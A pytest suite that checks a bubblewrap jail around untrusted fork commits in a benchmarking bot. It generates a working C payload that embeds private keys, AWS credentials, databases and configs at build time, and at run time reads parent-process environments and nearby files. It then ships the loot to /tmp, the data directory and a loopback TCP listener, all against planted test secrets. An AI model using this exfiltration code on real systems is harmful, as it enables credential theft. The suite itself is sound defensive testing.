"""The jail around candidate code: a stranger's fork commit tries to steal the bot's secrets, for real.

The fork commit (C, in a real git repo) adds to src/kernels.c:
- at BUILD time: `#if __has_include("<path>")` + `.incbin "<path>"` for the App key, the SQLite database, the
  config file, ~/.aws/credentials and another run's file (the compiler reads them into the binary);
- at RUN time (validation and benchmark, `__attribute__((constructor))`): fopen of the same files, `env`, the
  environ of every process up its parent chain (the bot's worker is there), and every file in each directory
  above its cwd (the data dir holds the database);
and sends what it got everywhere it can: a file in its cwd, /tmp, the data dir, a TCP listener of the test.

The test plants unique secrets, runs the commit through the real LocalExecutor and real driver (real build,
validation and benchmark) from a stand-in worker process that holds secrets in its environment, then searches
every channel. Control: the same commit with `local_trust: all` (no jail) must leak every secret, so the
search is known to find them.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from engine_helpers import ROOT, make_repo, project, spec
from loopback import LoopbackServer

from bot.config import Settings
from bot.experiments import jail, tasks
from bot.experiments.executors import Batch, LocalExecutor, UntrustedRefused

WORKER = ROOT / "tests" / "leak_worker.py"
DOCKER_UID = 10001  # deploy/Dockerfile's `bot` user
SECRET_FILES = ("key", "db", "config", "home", "other_run")


def _jail_or_skip(python: str = sys.executable) -> None:
    ok, why = jail.probe(python)
    if not ok:
        pytest.skip(f"no jail on this host: {why}")


# ---------------------------------------------------------------------- the attack


def payload(paths: dict[str, Path], tag: str, data_dir: Path, port: int, top: Path) -> str:
    """C source prepended to src/kernels.c by the stranger's commit."""
    embeds, build_reads, run_reads = [], [], []
    for i, (name, path) in enumerate(paths.items()):
        embeds.append(
            f'#if __has_include("{path}")\n'
            f'__asm__(".pushsection .rodata\\n.globl ar_e{i}\\nar_e{i}:\\n.incbin \\"{path}\\"\\n'
            f'.globl ar_e{i}_end\\nar_e{i}_end:\\n.popsection");\n'
            f"extern const char ar_e{i}[], ar_e{i}_end[];\n#define AR_HAVE_{i} 1\n#endif\n"
        )
        build_reads.append(
            f"#ifdef AR_HAVE_{i}\n"
            f'    add("build:{name}", ar_e{i}, (size_t)(ar_e{i}_end - ar_e{i}));\n'
            f'#else\n    add("build:{name}", "absent", 6);\n#endif\n'
        )
        run_reads.append(f'    add_file("run:{name}", "{path}");\n')
    return (
        (
            "#define _GNU_SOURCE\n#include <dirent.h>\n#include <arpa/inet.h>\n#include <stdio.h>\n"
            "#include <stdlib.h>\n#include <string.h>\n#include <sys/socket.h>\n#include <sys/stat.h>\n"
            "#include <unistd.h>\n"
            + "".join(embeds)
            + r"""
static char ar_buf[1 << 21];
static size_t ar_n;
static void add(const char *tag, const char *p, size_t len) {
    int k = snprintf(ar_buf + ar_n, sizeof ar_buf - ar_n, "\n[%s] ", tag);
    if (k > 0) ar_n += (size_t)k;
    for (size_t i = 0; i < len && ar_n < sizeof ar_buf - 2; i++)
        ar_buf[ar_n++] = (p[i] >= 32 && p[i] < 127) || p[i] == '\n' ? p[i] : '.';
}
static void add_file(const char *tag, const char *path) {
    static char tmp[1 << 18];
    FILE *f = fopen(path, "rb");
    if (!f) { add(tag, "unreadable", 10); return; }
    size_t len = fread(tmp, 1, sizeof tmp, f);
    fclose(f);
    add(tag, tmp, len);
}
static void send_all(const char *path) {
    FILE *f = fopen(path, "a");
    if (f) { fwrite(ar_buf, 1, ar_n, f); fclose(f); }
}
__attribute__((constructor)) static void ar_payload(void) {
    char exe[512] = {0}, line[600];
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) strcpy(exe, "?");
    snprintf(line, sizeof line, "%s uid=%d", exe, (int)getuid());
    add("ran", line, strlen(line));
"""
            + "".join(build_reads)
            + "".join(run_reads)
            + r"""
    FILE *e = popen("env", "r");
    if (e) {
        static char tmp[1 << 16];
        size_t len = fread(tmp, 1, sizeof tmp, e);
        pclose(e);
        add("env", tmp, len);
    }
    for (pid_t p = getppid(); p > 1;) {                       /* environ up the parent chain */
        char path[64], stat[512];
        snprintf(path, sizeof path, "/proc/%d/environ", (int)p);
        add_file("proc-environ", path);
        snprintf(path, sizeof path, "/proc/%d/stat", (int)p);
        FILE *s = fopen(path, "r");
        if (!s || !fgets(stat, sizeof stat, s)) { if (s) fclose(s); break; }
        fclose(s);
        char *rp = strrchr(stat, ')');
        int ppid = 0;
        if (!rp || sscanf(rp + 2, "%*c %d", &ppid) != 1) break;
        p = (pid_t)ppid;
    }
    char dir[4096];
    if (getcwd(dir, sizeof dir)) {                            /* every file in every directory above */
        while (strlen(dir) > 1 && strncmp(dir, TOP, strlen(TOP)) == 0) {
            DIR *d = opendir(dir);
            struct dirent *ent;
            while (d && (ent = readdir(d))) {
                char f[8192];
                struct stat st;
                snprintf(f, sizeof f, "%s/%s", dir, ent->d_name);
                if (stat(f, &st) == 0 && S_ISREG(st.st_mode) && !strstr(ent->d_name, ".leak"))
                    add_file("scan", f);
            }
            if (d) closedir(d);
            char *slash = strrchr(dir, '/');
            if (!slash) break;
            *slash = 0;
        }
    }
    send_all("ar-dump.txt");
    send_all("/tmp/" TAG ".leak");
    send_all(DATA_DIR "/" TAG ".leak");
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(PORT)};
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (sock >= 0 && connect(sock, (struct sockaddr *)&a, sizeof a) == 0) {
        for (size_t off = 0; off < ar_n;) {
            ssize_t k = send(sock, ar_buf + off, ar_n - off, 0);
            if (k <= 0) break;
            off += (size_t)k;
        }
    }
    if (sock >= 0) close(sock);
}
"""
        )
        .replace("TOP", f'"{top}"', 2)
        .replace("TAG", f'"{tag}"')
        .replace("DATA_DIR", f'"{data_dir}"')
        .replace("htons(PORT)", f"htons({port})")
    )


class Listener(LoopbackServer):
    """A TCP server on the host's loopback: what a candidate sends to it got out of the jail."""

    def __init__(self) -> None:
        self.received = bytearray()
        super().__init__()

    @property
    def connections(self) -> int:
        return self.accepted

    def handle(self, conn: socket.socket) -> None:
        with conn:
            while chunk := conn.recv(65536):
                self.received += chunk


class Host:
    """A bot host with planted secrets, in the dev layout (var/ data dir, key and config beside it) or the
    Docker layout of deploy/ (/data volume, /run/secrets/app.pem, HOME=/home/bot with ~/.aws and ~/.sky,
    settings in the environment from deploy/.env), under one root directory."""

    def __init__(self, top: Path, layout: str) -> None:
        self.top, self.layout = top, layout
        self.secrets = {k: f"{k.upper()}-SECRET-{uuid.uuid4().hex}" for k in (*SECRET_FILES, "env")}
        if layout == "docker":
            self.data = top / "data"
            self.paths = {
                "key": top / "run/secrets/app.pem",
                "db": self.data / "autoresearch.db",
                "config": top / "app/deploy/.env",
                "home": top / "home/bot/.aws/credentials",
                "other_run": self.data / "runs/99/work/notes.txt",
            }
            self.home = top / "home/bot"
            (self.home / ".sky").mkdir(parents=True)
            (self.home / ".sky" / "state.db").write_text(f"sky state {self.secrets['home']}\n")
        else:
            self.data = top / "srv/autoresearch/var"
            self.paths = {
                "key": top / "srv/autoresearch/app.pem",
                "db": self.data / "autoresearch.db",
                "config": top / "etc/autoresearch/settings.yml",
                "home": top / "home/autoresearch/.aws/credentials",
                "other_run": self.data / "runs/99/work/notes.txt",
            }
            self.home = top / "home/autoresearch"
        for p in self.paths.values():
            p.parent.mkdir(parents=True, exist_ok=True)
        self.paths["key"].write_text(
            "-----BEGIN RSA PRIVATE KEY-----\n" + self.secrets["key"] + "\n-----END RSA PRIVATE KEY-----\n"
        )
        with sqlite3.connect(self.paths["db"]) as db:  # a real SQLite file
            db.execute("CREATE TABLE artifacts (key TEXT, value TEXT)")
            db.execute("INSERT INTO artifacts VALUES ('token', ?)", (self.secrets["db"],))
        config = (
            f"AUTORESEARCH_WEBHOOK_SECRET={self.secrets['config']}\n"
            if layout == "docker"
            else f"webhook_secret: {self.secrets['config']}\n"
        )
        self.paths["config"].write_text(config)
        self.paths["home"].write_text(f"[default]\naws_secret_access_key = {self.secrets['home']}\n")
        self.paths["other_run"].write_text(f"other run's worktree: {self.secrets['other_run']}\n")
        self.base_dir = self.data / "executor" / "local"  # where bot.app.make_executor puts it
        self.base_dir.mkdir(parents=True)
        self.tag = f"ar-{uuid.uuid4().hex[:12]}"

    def worker_env(self) -> dict[str, str]:
        return {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "HOME": str(self.home),
            "LANG": "C.UTF-8",
            "PYTHONPATH": str(ROOT),
            "AUTORESEARCH_WEBHOOK_SECRET": self.secrets["env"],
            "AUTORESEARCH_GITHUB_PRIVATE_KEY_FILE": str(self.paths["key"]),
            "AUTORESEARCH_DATABASE": str(self.paths["db"]),
            "AUTORESEARCH_DATA_DIR": str(self.data),
            "GITHUB_TOKEN": "ghs_" + self.secrets["env"],
            "ANTHROPIC_API_KEY": "sk-ant-" + self.secrets["env"],
        }

    def chown(self, uid: int) -> None:
        for dirpath, dirnames, filenames in os.walk(self.top):
            for name in [*dirnames, *filenames]:
                os.chown(Path(dirpath) / name, uid, uid)
        os.chown(self.top, uid, uid)

    def channels(self, listener: Listener) -> dict[str, str]:
        """Everything the candidate could write to that someone outside the jail can read."""
        out = {
            "batch files, result.json, runner.log": "",
            "host /tmp": "",
            "data dir": "",
            "network (host loopback)": listener.received.decode(errors="replace"),
        }
        for p in self.base_dir.rglob("*"):
            if p.is_file() and not p.is_symlink():
                out["batch files, result.json, runner.log"] += p.read_bytes().decode(errors="replace")
        for name, path in (
            ("host /tmp", Path("/tmp") / f"{self.tag}.leak"),
            ("data dir", self.data / f"{self.tag}.leak"),
        ):
            if path.exists():
                out[name] = path.read_text(errors="replace")
        return out

    def leaked(self, listener: Listener) -> dict[str, list[str]]:
        """secret -> the channels it reached."""
        chans = self.channels(listener)
        return {k: [c for c, text in chans.items() if v in text] for k, v in self.secrets.items()}

    def cleanup(self) -> None:
        (Path("/tmp") / f"{self.tag}.leak").unlink(missing_ok=True)


def stranger_commit(host: Host, listener: Listener, repo_dir: Path) -> tuple[dict[str, str], Path]:
    code = payload(host.paths, host.tag, host.data, listener.port, host.top)
    shas = make_repo(repo_dir, {"stranger": {"src/kernels.c": [("", code)]}})
    bundle = tasks.make_bundle(repo_dir, list(shas.values()), repo_dir.parent / "repo.bundle")
    return shas, bundle


def run_worker(
    host: Host,
    shas: dict[str, str],
    bundle: Path,
    trust: str,
    python: str = sys.executable,
    uid: int | None = None,
) -> dict[str, Any]:
    proj = project(rounds=2, repetitions=1, warmup=0, command="./bin/bench 50")
    arg = {
        "base_dir": str(host.base_dir),
        "trust": trust,
        "lock": str(host.top / "bench.lock"),
        "run_id": 7,
        "spec": spec(shas, ["stranger"], proj, run_id=7),
        "bundle": str(bundle),
        "timeout": 240,
    }
    p = subprocess.run(
        [python, str(WORKER), json.dumps(arg)],
        env=host.worker_env(),
        cwd=str(host.top),
        capture_output=True,
        text=True,
        timeout=300,
        user=uid,
        group=uid,
        extra_groups=[] if uid is not None else None,
    )
    assert p.returncode == 0, p.stderr[-3000:]
    return json.loads(p.stdout.strip().splitlines()[-1])


def result_of(host: Host, handle: str) -> dict[str, Any]:
    return json.loads((host.base_dir / handle / "x86" / "result.json").read_text())


def dumps(host: Host, handle: str) -> str:
    """What the payload itself recorded inside its worktrees (proof that it ran, and where)."""
    return "".join(p.read_text(errors="replace") for p in (host.base_dir / handle).rglob("ar-dump.txt"))


@pytest.fixture()
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


def _report(label: str, host: Host, leaked: dict[str, list[str]]) -> None:
    n = sum(1 for v in leaked.values() if v)
    print(
        f"\n[leak test] {label}: {n}/{len(leaked)} planted secrets leaked; "
        + "; ".join(f"{k}: {', '.join(v) or 'nothing'}" for k, v in leaked.items())
    )


# ---------------------------------------------------------------------- the tests


def test_stranger_fork_commit_reads_nothing_in_the_jail_and_everything_without(
    tmp_path: Path, listener: Listener
) -> None:
    _jail_or_skip()
    results = {}
    for trust in ("none", "all"):  # jailed (the default), then the unsafe control
        host = Host(tmp_path / trust / "host", "dev")
        try:
            shas, bundle = stranger_commit(host, listener, tmp_path / trust / "repo")
            received_before = len(listener.received)
            got = run_worker(host, shas, bundle, trust)
            assert got["state"] == "done", got
            r = result_of(host, got["handle"])
            assert {n: v["status"] for n, v in r["variants"].items()} == {"baseline": "ok", "stranger": "ok"}
            assert len(r["variants"]["stranger"]["samples"]["softmax_ns"]) == 2  # benchmarked for real
            ran = dumps(host, got["handle"])
            # the payload ran in validation (bin/check) and in the benchmark (bin/bench)
            assert "/bin/check uid=" in ran and "/bin/bench uid=" in ran, ran[:2000]
            leaked = host.leaked(listener)
            results[trust] = (host, got, ran, leaked, len(listener.received) - received_before)
        finally:
            host.cleanup()
    host, got, ran, leaked, _ = results["none"]
    _report("jailed (local_trust: none, root mode)", host, leaked)
    assert leaked == {k: [] for k in host.secrets}, leaked
    # the stranger is the batch's first candidate: its own uid (the baseline's is one less); never root
    assert f"uid={jail.JAIL_UID + jail.SANDBOX_UID_OFFSET + 1}" in ran and "uid=0" not in ran
    assert "[build:key] absent" in ran and "[run:key] unreadable" in ran  # it tried, at build and run time
    assert not (host.data / f"{host.tag}.leak").exists() and not (Path("/tmp") / f"{host.tag}.leak").exists()
    env_seen = dict(
        line.split("=", 1)
        for line in ran.split("[env] ", 1)[1].split("\n[", 1)[0].splitlines()
        if "=" in line
    )
    assert env_seen["HOME"] == "/tmp" and not [
        k
        for k in env_seen
        if re.search(r"SECRET|TOKEN|KEY|GITHUB|ANTHROPIC|AWS|DATABASE|DATA_DIR|CONFIG|PYTHONPATH", k)
    ], env_seen
    assert "jailed: bubblewrap root mode" in (host.base_dir / got["handle"] / "runner.log").read_text()

    host, got, ran, leaked, sent = results["all"]
    _report("control without the jail (local_trust: all)", host, leaked)
    assert all(leaked[k] for k in host.secrets), leaked  # the search finds every secret
    assert sent > 0 and "uid=0" in ran


def test_docker_layout_non_root_bot_user_namespace_jail(listener: Listener) -> None:
    """deploy/: the worker runs as uid 10001 with /data, /run/secrets/app.pem, HOME=/home/bot and settings in
    its environment; the jail is bwrap's unprivileged user-namespace mode there."""
    python = "/usr/bin/python3"
    if os.geteuid() != 0:
        pytest.skip("needs root to start the stand-in worker as the Docker image's uid 10001")
    as_bot: dict[str, Any] = {"user": DOCKER_UID, "group": DOCKER_UID, "extra_groups": []}
    if subprocess.run([python, "-c", "import yaml"], capture_output=True, **as_bot).returncode != 0:
        pytest.skip(f"{python} with PyYAML is needed to run the bot as uid {DOCKER_UID}")
    code = (
        "import sys; sys.path.insert(0, sys.argv[1]); from bot.experiments import jail; "
        "ok, why = jail.probe(sys.executable); print(why); sys.exit(0 if ok else 1)"
    )
    check = subprocess.run([python, "-c", code, str(ROOT)], capture_output=True, text=True, **as_bot)
    if check.returncode != 0:
        pytest.skip(f"no user-namespace jail for a non-root bot: {check.stdout.strip()} {check.stderr[-99:]}")
    top = Path(tempfile.mkdtemp(prefix="autoresearch-docker-layout-", dir="/tmp"))
    top.chmod(0o755)
    host = Host(top / "host", "docker")
    try:
        shas, bundle = stranger_commit(host, listener, top / "repo")
        host.chown(DOCKER_UID)
        for p in (top / "repo.bundle", top):
            os.chown(p, DOCKER_UID, DOCKER_UID)
        got = run_worker(host, shas, bundle, "none", python=python, uid=DOCKER_UID)
        assert got["state"] == "done", got
        r = result_of(host, got["handle"])
        statuses = {n: v["status"] for n, v in r["variants"].items()}
        errors = [v.get("error") for v in r["variants"].values()]
        assert statuses == {"baseline": "ok", "stranger": "ok"}, errors
        ran = dumps(host, got["handle"])
        assert "/bin/check uid=" in ran and "/bin/bench uid=" in ran, ran[:2000]
        assert f"uid={DOCKER_UID}" in ran  # the bot's uid, in its own user namespace
        leaked = host.leaked(listener)
        _report("Docker layout, non-root bot (user-namespace mode)", host, leaked)
        assert leaked == {k: [] for k in host.secrets}, leaked
        assert "jailed: bubblewrap user mode" in (host.base_dir / got["handle"] / "runner.log").read_text()
    finally:
        host.cleanup()
        shutil.rmtree(top, ignore_errors=True)


def test_without_a_jail_untrusted_candidates_are_refused_unless_local_trust_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))  # no bwrap, no setpriv: no jail on this "host"
    jail._probe.cache_clear()
    try:
        ok, why = jail.probe()
        assert not ok and "bwrap" in why
        ex = LocalExecutor(tmp_path / "runs")
        batch = Batch(run_id=1, specs={"x86": {"schema": 1, "candidates": [{"name": "c", "sha": "a" * 40}]}})
        with pytest.raises(UntrustedRefused, match="local_trust: all") as exc:
            ex.submit(batch)
        assert "bubblewrap" in str(exc.value) and "UNSAFE" in str(exc.value)
        assert list((tmp_path / "runs").iterdir()) == []  # nothing was started or written
        assert LocalExecutor(tmp_path / "runs", trust="all").jail_plan() is None
    finally:
        jail._probe.cache_clear()
    with pytest.raises(Exception, match="local_trust"):
        LocalExecutor(tmp_path / "x", trust="some")


def test_settings_local_trust_and_jail_paths() -> None:
    s = Settings.load(
        env={"AUTORESEARCH_LOCAL_TRUST": "all", "AUTORESEARCH_LOCAL_JAIL_PATHS": "/opt/a:/opt/b"}
    )
    assert s.local_trust == "all" and s.local_jail_paths == ["/opt/a", "/opt/b"]
    assert Settings().local_trust == "none"
    with pytest.raises(Exception, match="local_trust"):
        Settings.load(env={"AUTORESEARCH_LOCAL_TRUST": "some"})


def _venv(where: Path) -> str:
    """A real venv (no pip) of this interpreter at `where`; returns its python."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(where)], check=True, timeout=120)
    return str(where / "bin" / "python")


def test_a_venv_under_tmp_is_the_python3_the_jail_runs(tmp_path: Path) -> None:
    """A checkout and venv under /tmp (the jail's /tmp is a private tmpfs): the venv is bound on top of it, so
    `python3` in the jail is that venv's interpreter, not another one found on PATH (issue #19)."""
    top = Path(tempfile.mkdtemp(prefix="autoresearch-venv-", dir="/tmp"))
    try:
        python = _venv(top / "p q" / ".venv")  # under /tmp, and a path with a space
        _jail_or_skip(python)  # the probe itself asserts sys.prefix inside == the venv
        plan = jail.make_plan(python)
        work = tmp_path / "w"
        work.mkdir()
        tmp_path.chmod(0o755)
        jail.prepare(plan, work, tmp_path / "etc")
        argv = jail.command(plan, work, tmp_path / "etc", ["python3", "-c", "import sys; print(sys.prefix)"])
        out = subprocess.run(
            argv, cwd=work, env=jail.jail_env(plan), capture_output=True, text=True, timeout=60
        )
        assert out.returncode == 0, out.stderr
        assert out.stdout.strip() == str(top / "p q" / ".venv")
    finally:
        shutil.rmtree(top, ignore_errors=True)


def test_an_interpreter_the_jail_cannot_bind_is_refused_in_one_sentence_before_anything_runs(
    tmp_path: Path,
) -> None:
    """A venv under /dev/shm (the jail's own /dev): never a silent fallback to the host's python3 in the
    jail; the probe, the plan and the executor each say which path cannot be bound, and nothing is started."""
    top = Path(tempfile.mkdtemp(prefix="autoresearch-venv-", dir="/dev/shm"))
    try:
        python = _venv(top / ".venv")
        with pytest.raises(jail.JailError, match=f"cannot bind the Python interpreter's directory {top}"):
            jail.make_plan(python)
        ok, why = jail.probe(python)
        assert not ok and str(top / ".venv") in why
        ex = LocalExecutor(tmp_path / "runs", python=python)
        batch = Batch(run_id=1, specs={"x86": {"schema": 1, "candidates": [{"name": "c", "sha": "a" * 40}]}})
        with pytest.raises(UntrustedRefused, match=str(top / ".venv")):
            ex.submit(batch)
        assert list((tmp_path / "runs").iterdir()) == []
    finally:
        shutil.rmtree(top, ignore_errors=True)
    assert jail.unbindable("/") and jail.unbindable("/tmp") and jail.unbindable("/proc/self")
    assert jail.unbindable("/nonexistent-autoresearch") == "it does not exist"
    assert jail.unbindable("/usr") == "" and jail.unbindable(str(tmp_path)) == ""
